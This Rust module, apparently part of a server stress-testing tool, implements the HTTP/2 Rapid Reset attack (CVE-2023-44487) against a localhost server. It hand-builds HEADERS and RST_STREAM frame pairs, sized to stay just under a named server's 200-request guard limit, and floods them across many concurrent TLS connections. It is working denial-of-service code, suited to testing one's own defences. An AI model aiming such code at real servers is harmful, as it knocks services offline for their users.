//! Requests of HTTP/2 that are reset in the same breath, as many on a connection as a guarded server puts up with
//! (CVE-2023-44487).

use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Instant;

use anyhow::Result;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use crate::tally::{self, Tally};
use crate::{Load, handshake};

/// Of one connection. OpenClaw ends one that brings more than 200 without a request that it answers.
const PAIRS: u32 = 190;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
/// `END_STREAM` and `END_HEADERS` of HEADERS; of PING, 1 is `ACK`.
const WHOLE: u8 = 5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(crate) async fn run(load: &Load) -> Result<()> {
    let connector = TlsConnector::from(Arc::new(handshake::client(b"h2")?));
    let octets: Arc<[u8]> = octets(&load.path).into();
    let start = Instant::now();
    let until = start + load.period();
    let mut connections = Vec::new();
    for _ in 0..load.connections {
        let (connector, octets, port) = (connector.clone(), Arc::clone(&octets), load.port);
        connections.push(tokio::spawn(async move {
            let mut tally = Tally::default();
            while Instant::now() < until {
                let storm = storm(&connector, port, &octets);
                if !tally.count_as(PAIRS.into(), storm).await {
                    break;
                }
            }
            tally
        }));
    }
    tally::report(start, connections).await
}

/// All that one connection sends.
fn octets(path: &str) -> Vec<u8> {
    // GET and https from the static table, the rest as literals (RFC 7541 §6.1, §6.2.2).
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(":path", path), (":authority", "localhost")] {
        block.push(0);
        for text in [name, value] {
            block.push(text.len() as u8);
            block.extend_from_slice(text.as_bytes());
        }
    }
    let mut octets = PREFACE.to_vec();
    frame(&mut octets, SETTINGS, 0, 0, &[]);
    for stream in (1..).step_by(2).take(PAIRS as usize) {
        frame(&mut octets, HEADERS, WHOLE, stream, &block);
        frame(&mut octets, RST_STREAM, 0, stream, &CANCEL);
    }
    frame(&mut octets, PING, 0, 0, &[0; 8]);
    octets
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&[a, b, c, kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Sends it all, and waits until the PING behind it is answered.
async fn storm(connector: &TlsConnector, port: u16, octets: &[u8]) -> io::Result<()> {
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).await?;
    stream.set_nodelay(true)?;
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut stream = connector.connect(name, stream).await?;
    stream.write_all(octets).await?;
    let mut head = [0; 9];
    loop {
        stream.read_exact(&mut head).await?;
        let [a, b, c, kind, flags, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        stream.read_exact(&mut payload).await?;
        match kind {
            PING if flags & 1 == 1 => return Ok(()),
            GOAWAY => return Err(io::ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
    }
}
